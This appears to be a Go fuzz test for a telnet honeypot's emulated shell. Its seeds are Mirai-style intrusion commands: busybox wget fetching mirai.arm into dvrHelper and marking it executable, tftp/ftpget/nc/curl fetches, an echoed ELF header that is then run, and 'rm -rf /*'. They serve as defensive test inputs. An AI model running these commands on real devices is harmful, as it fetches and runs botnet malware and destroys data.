package telnet

import (
	"context"
	"strings"
	"testing"
)

var shellSeeds = []string{
	`/bin/busybox echo -e '\x6b\x61\x6d\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
	`cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI`,
	`/bin/busybox wget http://1.2.3.4:80/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper`,
	`cd /var/; (cat .s || cp /bin/echo .s); echo -ne "\x7f\x45\x4c\x46" > .s; ./.s>.i; chmod +x .i; ./.i`,
	`tftp -g -l x -r y 1.2.3.4 69; ftpget -u a -p b h l r; nc h 1 > f; curl -O http://x/y`,
	`echo 'unterminated`, `a && || b`, `ls | | x`, `rm -rf /*; ls -la / /tmp`, `dd if=/dev/zero of=/tmp/z bs=1M count=2`,
	`echo "a\"b" 'c' d\ e 2>&1 >>f <g`, `{ x; } & y || z`,
}

func FuzzParseCommandLine(f *testing.F) {
	for _, s := range shellSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > maxLine {
			line = line[:maxLine]
		}
		pls, err := parseLine(line)
		if err != nil {
			if !strings.HasPrefix(err.Error(), "sh: ") {
				t.Fatalf("error %q does not look like sh's", err)
			}
			return
		}
		n := 0
		for _, pl := range pls {
			n += len(pl.cmds)
			for _, c := range pl.cmds {
				if len(c.args) > maxArgs || len(c.args) != len(c.glob) {
					t.Fatalf("%d args, %d glob flags", len(c.args), len(c.glob))
				}
			}
		}
		if n > maxCommands {
			t.Fatalf("%d commands", n)
		}
	})
}

// FuzzShell runs whole lines through one shell per input: whatever the
// line, it must not panic and what it prints and stores stays bounded.
func FuzzShell(f *testing.F) {
	for _, s := range shellSeeds {
		f.Add(s)
	}
	p := DefaultConfig().Profile
	dev := newDevice(p)
	f.Fuzz(func(t *testing.T, line string) {
		if len(line) > maxLine {
			line = line[:maxLine]
		}
		sh := newShell(dev)
		ctx, cancel := context.WithCancel(context.Background())
		cancel() // sleep returns at once
		for i := 0; i < 3; i++ {
			out := sh.run(ctx, line)
			if len(out) > maxOutput {
				t.Fatalf("%d bytes of output", len(out))
			}
			if len(sh.downloads) > maxDownloads {
				t.Fatalf("%d downloads", len(sh.downloads))
			}
		}
		if sh.fs.bytes > maxOverlayBytes || sh.fs.files > maxOverlayFiles {
			t.Fatalf("overlay %d bytes, %d files", sh.fs.bytes, sh.fs.files)
		}
	})
}
